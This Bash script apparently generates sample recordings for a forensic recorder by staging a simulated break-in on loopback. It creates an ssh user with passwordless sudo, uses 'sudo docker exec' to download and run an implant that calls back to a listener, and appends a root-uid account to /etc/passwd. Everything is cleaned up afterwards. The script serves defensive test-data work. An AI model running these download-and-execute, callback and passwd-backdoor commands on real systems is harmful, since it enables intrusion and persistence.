#!/usr/bin/env bash
# Make samples/: real fdr-record recordings of a scripted scenario on this
# host, with real Docker containers (an isolated dockerd), a real sshd and
# real sudo. Run as root from the top of the tree after `make`:
#
#   scripts/make-samples.sh            # writes samples/baseline and samples/incident
#
# The story (samples/README tells it in full):
#   baseline  a busybox web service container "web" (httpd on 127.0.0.1:18080,
#             host network) and a client container fetching its page every
#             second; recorded for FDR_SAMPLES_BASELINE_SECS (default 70).
#   incident  the same containers go on; then user "webops" logs in over ssh
#             (127.0.0.1, wrong password first), looks around, runs
#             `sudo docker exec` into "web", where the shell downloads
#             /tmp/implant from a loopback HTTP server, runs it (it calls home
#             to 127.0.0.1:4444) and appends a user to /etc/passwd.
#
# Everything started here (daemons, containers, user, sudoers rule, /dev/log,
# audit state) is undone by the trap on every exit path. About 2 minutes.
# Needs: docker.io busybox-static openssh-server sshpass sudo auditd gcc (libc.a).
set -euo pipefail

top=$(cd "$(dirname "$0")/.." && pwd)
bin=${FDR_BIN:-$top/bin}
out=${FDR_SAMPLES_OUT:-$top/samples}
base_secs=${FDR_SAMPLES_BASELINE_SECS:-70}
ring_size=${FDR_SAMPLES_RING_SIZE:-1M}
U=webops
WEB_PORT=18080 DL_PORT=18000 C2_PORT=4444 SSH_PORT=2222

die() { echo "make-samples: $*" >&2; exit 1; }
[ "$(id -u)" = 0 ] || die "needs root"
for b in dockerd docker busybox sshpass sudo auditctl gcc ss; do
	command -v "$b" >/dev/null || [ -x "/usr/sbin/$b" ] || die "$b not installed (scripts/install-deps.sh)"
done
[ -x "$bin/fdr-record" ] && [ -x "$bin/fdr-replay" ] || die "build first: make (no $bin/fdr-record)"
id "$U" >/dev/null 2>&1 && die "user $U exists already: not touching it"
for p in $WEB_PORT $DL_PORT $C2_PORT; do
	if ss -ltn | awk '{ print $4 }' | grep -q ":$p\$"; then die "port $p is in use"; fi
done
while ss -ltn | awk '{ print $4 }' | grep -q ":$SSH_PORT\$"; do SSH_PORT=$((SSH_PORT + 1)); done

T=$(mktemp -d /tmp/fdr-samples.XXXXXX)
chmod 755 "$T"
D="docker -H unix://$T/docker.sock"
SUDOERS=/etc/sudoers.d/fdr-samples-$U
AUDIT_WAS=$(auditctl -s 2>/dev/null | awk '$1 == "enabled" { print $2 }')
pids=()	# background helpers, killed in reverse order
dpid="" rpid="" syslogd=""

cleanup() {
	set +e
	[ -n "$rpid" ] && kill "$rpid" 2>/dev/null && wait "$rpid" 2>/dev/null
	for ((i = ${#pids[@]} - 1; i >= 0; i--)); do
		kill "${pids[$i]}" 2>/dev/null && wait "${pids[$i]}" 2>/dev/null
	done
	if [ -n "$dpid" ]; then
		$D rm -f web client >/dev/null 2>&1
		kill "$dpid" 2>/dev/null
		for _ in $(seq 50); do kill -0 "$dpid" 2>/dev/null || break; sleep 0.2; done
		kill -9 "$dpid" 2>/dev/null
	fi
	if [ -n "$syslogd" ]; then
		kill "$syslogd" 2>/dev/null && wait "$syslogd" 2>/dev/null
		rm -f /dev/log
	fi
	rm -f "$SUDOERS"
	id "$U" >/dev/null 2>&1 && userdel -r "$U" >/dev/null 2>&1
	[ -n "$AUDIT_WAS" ] && [ "$(auditctl -s | awk '$1 == "enabled" { print $2 }')" != "$AUDIT_WAS" ] &&
		auditctl -e "$AUDIT_WAS" >/dev/null
	# dockerd leaves mounts behind (netns, overlays): deepest first
	awk -v t="$T/" 'index($2, t) == 1 { print $2 }' /proc/mounts | sort -r |
		while read -r m; do umount -l "$m"; done
	rm -rf "$T"
}
trap cleanup EXIT
trap 'exit 130' INT TERM

say() { printf '%s  %s\n' "$(date -u +%H:%M:%S)" "$*"; }

# --- the cast -----------------------------------------------------------
say "setting up in $T"
useradd -m -s /bin/sh "$U"
echo "$U:correct-horse-$$" | chpasswd
printf 'Defaults:%s !lecture\n%s ALL=(root) NOPASSWD: ALL\n' "$U" "$U" >"$SUDOERS"
chmod 0440 "$SUDOERS"
mkdir -p /run/sshd
cat >"$T/sshd_config" <<EOS
Port $SSH_PORT
ListenAddress 127.0.0.1
HostKey /etc/ssh/ssh_host_ed25519_key
UsePAM yes
PasswordAuthentication yes
KbdInteractiveAuthentication no
PubkeyAuthentication no
PidFile $T/sshd.pid
EOS
AUTH_LOGS=()
SSHD_LOG=()
if [ -e /dev/log ]; then	# somebody else's: leave it alone, sshd logs to a file
	SSHD_LOG=(-E "$T/sshd.log")
	touch "$T/sshd.log"
	AUTH_LOGS+=(--auth-log "$T/sshd.log")
else
	busybox syslogd -n -O "$T/syslog.log" &
	syslogd=$!
	for _ in $(seq 50); do [ -S /dev/log ] && break; sleep 0.1; done
	[ -S /dev/log ] || die "busybox syslogd did not bind /dev/log"
	AUTH_LOGS+=(--auth-log "$T/syslog.log")
fi
[ -f /etc/ssh/ssh_host_ed25519_key ] || ssh-keygen -q -A
/usr/sbin/sshd -D -f "$T/sshd_config" "${SSHD_LOG[@]}" &
pids+=($!)

dockerd --data-root "$T/data" --exec-root "$T/exec" -H "unix://$T/docker.sock" \
	--pidfile "$T/dockerd.pid" --iptables=false --ip6tables=false --bridge=none \
	--storage-driver=overlay2 >"$T/dockerd.log" 2>&1 &
dpid=$!
for _ in $(seq 100); do $D version >/dev/null 2>&1 && break; sleep 0.1; done
$D version >/dev/null 2>&1 || die "isolated dockerd did not start: $(tail -3 "$T/dockerd.log")"

# The image: busybox, a page, the service (httpd) and the client loop.
R=$T/rootfs
mkdir -p "$R/bin" "$R/www" "$R/etc" "$R/tmp" "$R/root"
cp "$(command -v busybox)" "$R/bin/busybox"
for a in sh httpd wget cat chmod echo sleep id ls ps uname date; do ln -s busybox "$R/bin/$a"; done
printf 'root:x:0:0:root:/root:/bin/sh\nwww-data:x:33:33:www-data:/www:/bin/false\n' >"$R/etc/passwd"
echo '<html><body><h1>fdr sample shop</h1></body></html>' >"$R/www/index.html"
cat >"$R/bin/client" <<EOF
#!/bin/sh
# The web service's regular customer: one page a second.
while true; do
	wget -q -O /dev/null http://127.0.0.1:$WEB_PORT/index.html
	sleep 1
done
EOF
chmod 755 "$R/bin/client" "$R/tmp"
tar -C "$R" -c . | $D import -c "CMD [\"/bin/httpd\", \"-f\", \"-p\", \"127.0.0.1:$WEB_PORT\", \"-h\", \"/www\"]" \
	-c "EXPOSE $WEB_PORT/tcp" - local/shop:1.0 >/dev/null

mkdir -p "$T/dl"
gcc -static -Os -o "$T/dl/implant" "$top/samples/implant.c"
for _ in $(seq 50); do ss -ltn | grep -q "127.0.0.1:$SSH_PORT " && break; sleep 0.1; done
ss -ltn | grep -q "127.0.0.1:$SSH_PORT " || die "sshd did not listen on $SSH_PORT"

# --- recording ----------------------------------------------------------
record_start() {	# DIR
	"$bin/fdr-record" -d "$1" --ring-size "$ring_size" --block-size 16K --no-sync \
		--sources proc,file,net,docker,ssh,sudo --docker-socket "$T/docker.sock" \
		--file-include "$T/data/overlay2" --file-include /etc --iface lo \
		--audit-enable "${AUTH_LOGS[@]}" 2>"$1.log" &
	rpid=$!
	for _ in $(seq 100); do grep -q 'recording into' "$1.log" && break; sleep 0.1; done
	grep -q 'recording into' "$1.log" || die "fdr-record did not start: $(tail -5 "$1.log")"
}
record_stop() {	# DIR
	kill -TERM "$rpid"
	wait "$rpid" || die "fdr-record exit $?: $(tail -5 "$1.log")"
	rpid=""
}

mkdir -m 700 "$T/baseline" "$T/incident"
say "baseline: recording ${base_secs}s of normal service"
record_start "$T/baseline"
sleep 1
$D run -d --name web --network host local/shop:1.0 >/dev/null
$D run -d --name client --network host local/shop:1.0 /bin/client >/dev/null
sleep "$base_secs"
record_stop "$T/baseline"

# The attacker's side (loopback stands in for the internet): a download
# server and a listener, up before the incident's recording starts.
busybox httpd -f -p "127.0.0.1:$DL_PORT" -h "$T/dl" &
pids+=($!)
"$T/dl/implant" -l "$C2_PORT" &
pids+=($!)
say "incident: recording"
record_start "$T/incident"
sleep 10
SSH=(ssh -F /dev/null -p "$SSH_PORT" -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null
	-o LogLevel=ERROR -o PubkeyAuthentication=no -o PreferredAuthentications=password
	-o NumberOfPasswordPrompts=1)
say "incident: ssh as $U with a wrong password"
sshpass -p 'Summer2026!' "${SSH[@]}" "$U@127.0.0.1" true 2>/dev/null && die "wrong password accepted"
sleep 2
say "incident: ssh as $U with the right one, sudo docker exec into web"
# The intruder's commands, as they would type them (one line each, so the
# recorded argv reads as typed).
sock=unix://$T/docker.sock
inside="cd /tmp; wget -q -O /tmp/implant http://127.0.0.1:$DL_PORT/implant; chmod +x /tmp/implant; /tmp/implant 127.0.0.1 $C2_PORT; echo 'sysupdate:x:0:0::/root:/bin/sh' >> /etc/passwd"
sshpass -p "correct-horse-$$" "${SSH[@]}" "$U@127.0.0.1" "id; uname -a; sleep 1
sudo docker -H $sock ps --format '{{.Names}} {{.Image}}'
sudo docker -H $sock exec web sh -c \"$inside\"" >"$T/session.out" 2>&1 ||
	die "the intruder's session failed: $(cat "$T/session.out")"
grep -q "uid=$(id -u "$U")" "$T/session.out" || die "session output: $(cat "$T/session.out")"
sleep 10
record_stop "$T/incident"
# checked after the recording: this exec is not part of the story
$D exec web cat /etc/passwd | grep -q sysupdate || die "the /etc/passwd write did not happen"

# --- keep ----------------------------------------------------------------
# Only our rings: other containers of this host (other dockerds) have rings too.
keep=(host.ring)
for c in web client; do keep+=("docker-$($D inspect -f '{{.Id}}' "$c" | head -c 12).ring"); done
for d in baseline incident; do
	"$bin/fdr-replay" verify "$T/$d" >/dev/null || die "fdr-replay verify $d failed"
	if grep -q 'lost\|gap' "$T/$d.log"; then echo "note: $d: $(grep 'lost\|gap' "$T/$d.log" | head -3)"; fi
	rm -rf "${out:?}/$d"
	mkdir -p "$out/$d"
	for r in "${keep[@]}"; do
		[ -f "$T/$d/$r" ] || die "no ring $d/$r"
		cp "$T/$d/$r" "$out/$d/$r"
	done
	chmod 644 "$out/$d"/*.ring
done
say "done: $(du -sh "$out/baseline" "$out/incident" | awk '{ printf "%s %s  ", $2, $1 }')"
"$bin/fdr-replay" info "$out/baseline" "$out/incident"
